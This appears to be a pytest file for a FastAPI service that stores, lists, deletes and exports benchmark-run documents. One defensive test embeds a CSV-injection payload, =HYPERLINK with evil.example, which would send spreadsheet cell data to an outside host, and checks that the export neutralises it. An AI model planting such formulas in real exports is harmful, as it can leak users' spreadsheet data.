from __future__ import annotations

import copy
import csv
import io
import json
import uuid
from datetime import datetime
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient

from tests.factories import add_member, create_workspace, signup

FIXTURE = Path(__file__).parents[2] / "fixtures" / "benchmark-run-small.json"


def document(**changes: Any) -> dict[str, Any]:
    """A real small-mode result document (write-cost and disk-footprint), with changes."""
    doc: dict[str, Any] = json.loads(FIXTURE.read_text())
    doc.update(changes)
    return doc


def test_upload_list_read_delete(client: TestClient) -> None:
    owner = signup(client)
    ws = create_workspace(client, owner)
    base = f"/api/v1/workspaces/{ws['id']}/benchmarks"
    doc = document()
    r = client.post(base, json=doc, headers=owner.headers)
    assert r.status_code == 201, r.text
    created = r.json()
    assert created["run_id"] == doc["run_id"]
    assert created["mode"] == "small"
    assert [s["scenario"] for s in created["scenarios"]] == ["write-cost", "disk-footprint"]
    assert created["systems"] == [
        "vigil",
        "vigil-storage",
        "victoriametrics",
        "influxdb",
        "postgres",
    ]
    first = min(datetime.fromisoformat(s["started_at"]) for s in doc["scenarios"])
    assert datetime.fromisoformat(created["started_at"]) == first
    assert created["environment"]["glibc"] == doc["environment"]["glibc"]
    assert created["scenarios"][0]["summary"] == doc["scenarios"][0]["summary"]
    assert "measurements" not in created["scenarios"][0]

    viewer = add_member(client, owner, ws["id"], "viewer")
    listed = client.get(base, headers=viewer.headers).json()
    assert listed["count"] == 1 and listed["data"][0]["id"] == created["id"]
    assert "document" not in listed["data"][0]

    full = client.get(f"{base}/{created['id']}", headers=viewer.headers).json()
    assert full["document"]["scenarios"][1]["measurements"] == doc["scenarios"][1]["measurements"]
    assert (
        full["document"]["scenarios"][0]["resources"][0]["samples"]
        == (doc["scenarios"][0]["resources"][0]["samples"])
    )
    assert full["document"]["environment"] == doc["environment"]
    # key order survives storage: exports list parameters and headline figures as written
    for stored, sent in zip(full["document"]["scenarios"], doc["scenarios"], strict=True):
        assert list(stored["summary"]) == list(sent["summary"])
        assert list(stored["parameters"]) == list(sent["parameters"])
    assert list(listed["data"][0]["scenarios"][0]["summary"]) == list(
        doc["scenarios"][0]["summary"]
    )

    r = client.delete(f"{base}/{created['id']}", headers=viewer.headers)
    assert r.status_code == 403
    assert "benchmarks.write" in r.json()["detail"]
    assert client.delete(f"{base}/{created['id']}", headers=owner.headers).status_code == 200
    r = client.get(f"{base}/{created['id']}", headers=owner.headers)
    assert r.status_code == 404
    assert r.json() == {"detail": "Benchmark run not found", "code": "not_found"}


def test_editor_uploads_viewer_cannot(client: TestClient) -> None:
    owner = signup(client)
    ws = create_workspace(client, owner)
    base = f"/api/v1/workspaces/{ws['id']}/benchmarks"
    viewer = add_member(client, owner, ws["id"], "viewer")
    editor = add_member(client, owner, ws["id"], "editor")
    r = client.post(base, json=document(), headers=viewer.headers)
    assert r.status_code == 403
    r = client.post(base, json=document(), headers=editor.headers)
    assert r.status_code == 201
    assert r.json()["uploaded_by"] == editor.id


def test_list_is_newest_first_paginated_and_filtered(client: TestClient) -> None:
    owner = signup(client)
    ws = create_workspace(client, owner)
    base = f"/api/v1/workspaces/{ws['id']}/benchmarks"
    for day, scenarios in ((19, ["write-cost"]), (21, ["disk-footprint"]), (20, None)):
        doc = document(run_id=f"run-{day}")
        if scenarios is not None:
            doc["scenarios"] = [s for s in doc["scenarios"] if s["scenario"] in scenarios]
        for s in doc["scenarios"]:
            s["started_at"] = f"2026-11-{day}T06:00:00Z"
        assert client.post(base, json=doc, headers=owner.headers).status_code == 201
    page = client.get(base, params={"limit": 2}, headers=owner.headers).json()
    assert page["count"] == 3
    assert [r["run_id"] for r in page["data"]] == ["run-21", "run-20"]
    page = client.get(base, params={"limit": 2, "offset": 2}, headers=owner.headers).json()
    assert [r["run_id"] for r in page["data"]] == ["run-19"]
    only = client.get(base, params={"scenario": "write-cost"}, headers=owner.headers).json()
    assert only["count"] == 2
    assert [r["run_id"] for r in only["data"]] == ["run-20", "run-19"]
    none = client.get(base, params={"scenario": "soak"}, headers=owner.headers).json()
    assert none == {"data": [], "count": 0}
    r = client.get(base, params={"limit": 0}, headers=owner.headers)
    assert r.status_code == 422


def test_same_run_twice_is_a_conflict(client: TestClient) -> None:
    owner = signup(client)
    ws_a, ws_b = create_workspace(client, owner), create_workspace(client, owner)
    doc = document()
    url_a = f"/api/v1/workspaces/{ws_a['id']}/benchmarks"
    assert client.post(url_a, json=doc, headers=owner.headers).status_code == 201
    r = client.post(url_a, json=doc, headers=owner.headers)
    assert r.status_code == 409
    assert r.json()["code"] == "duplicate_run"
    assert doc["run_id"] in r.json()["detail"]
    # another workspace keeps its own copy
    url_b = f"/api/v1/workspaces/{ws_b['id']}/benchmarks"
    assert client.post(url_b, json=doc, headers=owner.headers).status_code == 201


def test_run_of_another_workspace_is_404(client: TestClient) -> None:
    owner = signup(client)
    ws_a, ws_b = create_workspace(client, owner), create_workspace(client, owner)
    created = client.post(
        f"/api/v1/workspaces/{ws_a['id']}/benchmarks", json=document(), headers=owner.headers
    ).json()
    for method in ("GET", "DELETE"):
        r = client.request(
            method,
            f"/api/v1/workspaces/{ws_b['id']}/benchmarks/{created['id']}",
            headers=owner.headers,
        )
        assert r.status_code == 404, method
        assert r.json()["detail"] == "Benchmark run not found"
    listed = client.get(f"/api/v1/workspaces/{ws_b['id']}/benchmarks", headers=owner.headers)
    assert listed.json()["count"] == 0


EXPORTS = {"csv": FIXTURE.with_suffix(".csv"), "md": FIXTURE.with_suffix(".md")}


def test_export_is_the_text_vigil_bench_writes(client: TestClient) -> None:
    """CSV and Markdown of a stored run, for readers: the files `vigil-bench export` wrote
    for the same document (tests/fixtures/benchmark-run-small.{csv,md}), byte for byte."""
    owner = signup(client)
    ws = create_workspace(client, owner)
    base = f"/api/v1/workspaces/{ws['id']}/benchmarks"
    created = client.post(base, json=document(), headers=owner.headers).json()
    viewer = add_member(client, owner, ws["id"], "viewer")
    for fmt, media_type in (("csv", "text/csv"), ("md", "text/markdown")):
        r = client.get(f"{base}/{created['id']}/export?format={fmt}", headers=viewer.headers)
        assert r.status_code == 200, r.text
        assert r.headers["content-type"] == f"{media_type}; charset=utf-8"
        assert r.headers["content-disposition"] == f'attachment; filename="small-all-final.{fmt}"'
        assert r.text == EXPORTS[fmt].read_text()


def test_export_csv_writes_would_be_formulas_as_text(client: TestClient) -> None:
    """A cell a spreadsheet would run (=, +, -, @, tab, CR first) gets a leading ', plain
    numbers excepted (OWASP, CSV injection); the Markdown shows the text as it is."""
    owner = signup(client)
    ws = create_workspace(client, owner)
    base = f"/api/v1/workspaces/{ws['id']}/benchmarks"
    doc = document()
    m = doc["scenarios"][0]["measurements"][0]
    m.update(
        metric='=HYPERLINK("https://evil.example/?"&A1,"x")',
        unit="@u",
        value=-2.5,
        repetitions=[-1.5, 2.0],
        labels={},
    )
    created = client.post(base, json=doc, headers=owner.headers).json()
    r = client.get(f"{base}/{created['id']}/export?format=csv", headers=owner.headers)
    assert r.status_code == 200, r.text
    row = list(csv.reader(io.StringIO(r.text)))[1]
    assert row[4:10] == [
        '\'=HYPERLINK("https://evil.example/?"&A1,"x")',
        "-2.5",
        "'@u",
        "",
        "",
        "'-1.5 2.0",
    ]
    md = client.get(f"{base}/{created['id']}/export?format=md", headers=owner.headers).text
    assert '| =HYPERLINK("https://evil.example/?"&A1,"x") |' in md


def test_export_names_the_file_after_the_run_in_safe_characters(client: TestClient) -> None:
    owner = signup(client)
    ws = create_workspace(client, owner)
    base = f"/api/v1/workspaces/{ws['id']}/benchmarks"
    doc = document(run_id='nightly "big"/2026 11')
    created = client.post(base, json=doc, headers=owner.headers).json()
    r = client.get(f"{base}/{created['id']}/export?format=md", headers=owner.headers)
    assert r.status_code == 200, r.text
    assert r.headers["content-disposition"] == 'attachment; filename="nightly__big__2026_11.md"'
    assert r.text.startswith('# Benchmark run nightly "big"/2026 11\n')


def test_export_refuses_an_unknown_or_missing_format(client: TestClient) -> None:
    owner = signup(client)
    ws = create_workspace(client, owner)
    base = f"/api/v1/workspaces/{ws['id']}/benchmarks"
    created = client.post(base, json=document(), headers=owner.headers).json()
    r = client.get(f"{base}/{created['id']}/export?format=pdf", headers=owner.headers)
    assert r.status_code == 422
    assert r.json() == {
        "detail": "query.format: Input should be 'csv' or 'md'",
        "code": "validation_error",
        "errors": [
            {
                "loc": ["query", "format"],
                "msg": "Input should be 'csv' or 'md'",
                "type": "literal_error",
            }
        ],
    }
    r = client.get(f"{base}/{created['id']}/export", headers=owner.headers)
    assert r.status_code == 422
    assert r.json()["detail"] == "query.format: Field required"


def test_export_of_a_missing_or_another_workspaces_run_is_404(client: TestClient) -> None:
    owner = signup(client)
    ws_a, ws_b = create_workspace(client, owner), create_workspace(client, owner)
    created = client.post(
        f"/api/v1/workspaces/{ws_a['id']}/benchmarks", json=document(), headers=owner.headers
    ).json()
    for ws_id, run_id in ((ws_b["id"], created["id"]), (ws_a["id"], str(uuid.uuid4()))):
        r = client.get(
            f"/api/v1/workspaces/{ws_id}/benchmarks/{run_id}/export?format=csv",
            headers=owner.headers,
        )
        assert r.status_code == 404
        assert r.json() == {"detail": "Benchmark run not found", "code": "not_found"}


def _upload_error(client: TestClient, body: Any) -> dict[str, Any]:
    owner = signup(client)
    ws = create_workspace(client, owner)
    r = client.post(f"/api/v1/workspaces/{ws['id']}/benchmarks", json=body, headers=owner.headers)
    assert r.status_code == 422, r.text
    result: dict[str, Any] = r.json()
    assert result["code"] == "validation_error"
    return result


def test_unknown_schema_version_is_named(client: TestClient) -> None:
    body = _upload_error(client, document(schema_version=2))
    assert body["detail"] == (
        "body: unsupported schema_version 2: this backend reads result documents "
        "of schema_version 1"
    )
    body = _upload_error(client, document(schema_version="1"))
    assert "unsupported schema_version '1'" in body["detail"]


def test_malformed_documents_say_what_is_wrong(client: TestClient) -> None:
    doc = document()
    del doc["environment"]["glibc"]
    assert _upload_error(client, doc)["detail"] == "body.environment.glibc: Field required"

    doc = document()
    doc["scenarios"][0]["measurements"][0]["value"] = "fast"
    detail = _upload_error(client, doc)["detail"]
    assert detail.startswith(
        "body.scenarios.0.measurements.0.value: Input should be a valid number"
    )

    doc = document()
    doc["scenarios"][1]["mode"] = "medium"
    assert _upload_error(client, doc)["detail"] == (
        "body.scenarios.1.mode: Input should be 'small' or 'full'"
    )

    doc = document(favourite_colour="blue")
    assert _upload_error(client, doc)["detail"] == (
        "body.favourite_colour: Extra inputs are not permitted"
    )

    assert _upload_error(client, document(scenarios=[]))["detail"] == (
        "body.scenarios: List should have at least 1 item after validation, not 0"
    )
    assert _upload_error(client, document(run_id=""))["detail"].startswith("body.run_id:")

    doc = document()
    doc["scenarios"][1]["notes"] = ["fine", "not\x00fine"]
    assert _upload_error(client, doc)["detail"] == (
        "body: text must not contain NUL (\\u0000) characters; found in scenarios.1.notes.1"
    )
    assert _upload_error(client, [1, 2])["detail"].startswith("body:")


def test_body_over_the_limit_is_413(client: TestClient) -> None:
    owner = signup(client)
    ws = create_workspace(client, owner)
    doc = document()
    padding = copy.deepcopy(doc["scenarios"][0])
    doc["scenarios"] = [padding] * 64
    doc["scenarios"][0]["notes"] = ["x" * (5 * 1024 * 1024)]
    r = client.post(f"/api/v1/workspaces/{ws['id']}/benchmarks", json=doc, headers=owner.headers)
    assert r.status_code == 413
    assert r.json()["limit"] == "max_request_bytes"


def test_upload_and_delete_are_audited(client: TestClient) -> None:
    owner = signup(client)
    ws = create_workspace(client, owner)
    base = f"/api/v1/workspaces/{ws['id']}/benchmarks"
    created = client.post(base, json=document(), headers=owner.headers).json()
    client.delete(f"{base}/{created['id']}", headers=owner.headers)
    events = client.get(
        f"/api/v1/workspaces/{ws['id']}/audit",
        params={"action": "benchmark.*"},
        headers=owner.headers,
    ).json()["data"]
    assert [(e["action"], e["target_id"], e["actor_email"]) for e in events] == [
        ("benchmark.delete", created["id"], owner.email),
        ("benchmark.create", created["id"], owner.email),
    ]
    assert events[1]["details"] == {
        "run_id": created["run_id"],
        "scenarios": ["write-cost", "disk-footprint"],
    }


def test_api_keys_cannot_upload(client: TestClient) -> None:
    from tests.factories import create_key

    owner = signup(client)
    ws = create_workspace(client, owner)
    for scope in ("query", "ingest"):
        key = create_key(client, owner, ws["id"], scope)
        r = client.post(
            f"/api/v1/workspaces/{ws['id']}/benchmarks",
            json=document(),
            headers={"Authorization": f"Bearer {key['key']}"},
        )
        assert r.status_code == 401, scope
        assert "sign in" in r.json()["detail"]
